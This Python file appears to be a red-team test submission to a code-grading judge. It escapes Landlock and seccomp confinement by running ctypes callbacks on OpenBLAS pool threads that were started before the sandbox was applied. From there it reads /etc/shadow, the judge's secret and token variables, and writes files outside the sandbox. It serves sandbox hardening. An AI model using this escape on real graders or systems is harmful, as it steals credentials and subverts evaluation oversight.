# Hostile (found by the red team, 2026-11-26): runs Python code on a thread that existed before
# the sandbox was applied.
# Landlock (landlock_restrict_self) and seccomp (loaded without SECCOMP_FILTER_FLAG_TSYNC)
# confine only the thread that applies them.  Importing torch imports numpy, whose OpenBLAS
# starts its thread pool (blas_thread_server, nproc-1 threads) before session.confine().
# OpenBLAS exports exec_blas(): queue item 0 runs on the caller, items 1.. on the pool's
# threads.  Each item's routine here is a ctypes callback (mode BLAS_PTHREAD: routine(args)).
import ctypes
import os
import threading

TARGETS = [os.environ.get("JUDGE_TEST_SECRET", "/etc/shadow"), "/etc/shadow", "/proc/1/environ"]
results = {}
lock = threading.Lock()
BLAS_PTHREAD = 0x4000
ITEM = 256  # sizeof(blas_queue_t) is 168-176 on x86-64; zeroed padding is harmless


def _seccomp_mode():
    for line in open(f"/proc/self/task/{threading.get_native_id()}/status"):
        if line.startswith("Seccomp:"):
            return line.split()[1]
    return "?"


@ctypes.CFUNCTYPE(None, ctypes.c_void_p)
def _body(_args):
    got = []
    for path in TARGETS:
        try:
            with open(path, "rb") as f:
                got.append(f"{path}: READ {f.read(48)!r}")
        except OSError as exc:
            got.append(f"{path}: {type(exc).__name__}")
    try:  # the judge's own process (the worker's parent): environment
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            env = f.read().split(b"\0")
            secrets = [e.decode(errors="replace") for e in env if b"SECRET" in e or b"TOKEN" in e]
            got.append(f"judge environ: READ {len(env)} variables, secrets {secrets}")
    except OSError as exc:
        got.append(f"judge environ: {type(exc).__name__}")
    try:  # a write outside the scratch folder
        with open(os.environ.get("JUDGE_TEST_SECRET", "/tmp/x") + ".escaped", "w") as f:
            f.write(f"written by the worker's thread {threading.get_native_id()}\n")
        got.append("write outside: OK")
    except OSError as exc:
        got.append(f"write /tmp: {type(exc).__name__}")
    try:  # seccomp's socket rule too
        import socket
        socket.socket(socket.AF_UNIX).close()
        got.append("socket(): allowed")
    except OSError as exc:
        got.append(f"socket(): {exc}")
    with lock:
        results[threading.get_native_id()] = (_seccomp_mode(), got)


def _openblas():
    for line in open("/proc/self/maps"):
        if "openblas" in line and line.rstrip().endswith(".so"):
            return ctypes.CDLL(line.split()[-1])
    raise RuntimeError("no OpenBLAS mapped")


def solve(input, output, rows, cols):
    output.copy_(input.T)
    if results:
        return
    blas = _openblas()
    threads = ctypes.c_int.in_dll(blas, "blas_cpu_number").value
    n = max(2, threads)
    queue = (ctypes.c_char * (ITEM * n))()
    base = ctypes.addressof(queue)
    for i in range(n):
        item = base + i * ITEM
        ctypes.c_void_p.from_address(item).value = ctypes.cast(_body, ctypes.c_void_p).value  # routine
        ctypes.c_void_p.from_address(item + 64).value = base + (i + 1) * ITEM if i + 1 < n else None  # next
        ctypes.c_int.from_address(item + 160).value = BLAS_PTHREAD  # mode
    blas.exec_blas.argtypes = [ctypes.c_long, ctypes.c_void_p]
    blas.exec_blas(n, base)
    lines = [f"tid {tid} seccomp={mode}: " + " | ".join(got) for tid, (mode, got) in sorted(results.items())]
    raise RuntimeError(f"UNCONFINED-PROBE (main tid {threading.get_native_id()}, blas threads {threads})\n"
                       + "\n".join(lines))
